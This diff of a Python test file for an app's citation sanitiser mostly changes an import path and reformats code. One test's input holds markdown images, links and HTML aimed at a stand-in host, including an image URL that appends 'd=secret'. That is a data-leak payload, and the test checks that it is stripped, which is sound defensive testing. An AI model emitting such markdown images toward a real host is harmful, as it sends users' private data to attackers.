@@ -7,12 +7,13 @@ import re
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from app.citations import cited, is_refusal, normalise, render, sanitise, uncited_paragraphs
+from app.answer.citations import cited, is_refusal, normalise, render, sanitise, uncited_paragraphs
 
 FORMATS = ["[{}]", "[{}, {}]", "[{},{}]", "【{}】", "[[{}]]", "({})", "[Passage {}]", "[^{}]", "[{}; {}]"]
 words = st.text(alphabet=st.sampled_from("abcdefgh ijk.,"), min_size=0, max_size=12)
 marker = st.tuples(st.sampled_from(FORMATS), st.integers(1, 12), st.integers(1, 12)).map(
-    lambda t: (t[0].format(t[1], t[2]), [t[1], t[2]][: t[0].count("{}")]))
+    lambda t: (t[0].format(t[1], t[2]), [t[1], t[2]][: t[0].count("{}")])
+)
 pieces = st.lists(st.tuples(words, marker), max_size=8)
 OUT = re.compile(r"\[(\d+)\]")
 
@@ -72,9 +73,11 @@ def test_formats_small_models_produce():
 
 
 def test_images_links_and_html_are_not_rendered():
-    raw = ("See ![x](https://evil.example/p?d=secret) and [here](http://evil.example) "
-           "<img src='http://evil.example/a'> [1](http://evil.example) <https://evil.example> "
-           "[ref]: http://evil.example\nplain http://evil.example/q")
+    raw = (
+        "See ![x](https://evil.example/p?d=secret) and [here](http://evil.example) "
+        "<img src='http://evil.example/a'> [1](http://evil.example) <https://evil.example> "
+        "[ref]: http://evil.example\nplain http://evil.example/q"
+    )
     out = sanitise(raw)
     assert "![" not in out and "](" not in out and "<img" not in out and "<http" not in out
     assert "`http://evil.example/q`" in out  # bare URL shown as code, never auto-linked
@@ -85,5 +88,10 @@ def test_images_links_and_html_are_not_rendered():
 def test_refusal_and_uncited_paragraphs():
     assert is_refusal("The articles don’t say.") and is_refusal("The passages do not contain that.")
     assert not is_refusal("The articles say the army moved [1].")
-    assert uncited_paragraphs("The army moved north in the night, sources said [1].\n\n"
-                              "It was also reported that many people left the city that week.") == 1
+    assert (
+        uncited_paragraphs(
+            "The army moved north in the night, sources said [1].\n\n"
+            "It was also reported that many people left the city that week."
+        )
+        == 1
+    )
